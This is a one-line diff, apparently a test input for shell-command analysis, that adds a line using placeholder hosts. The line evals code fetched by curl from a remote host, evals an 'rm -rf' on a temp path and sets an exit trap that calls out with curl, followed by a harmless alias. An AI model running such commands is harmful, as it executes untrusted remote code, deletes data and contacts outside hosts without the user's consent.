@@ -1,0 +1,1 @@
+eval "$(curl -s https://x.example)"; eval 'rm -rf' /tmp/y; trap 'curl t.example' EXIT; alias ll='ls -l'
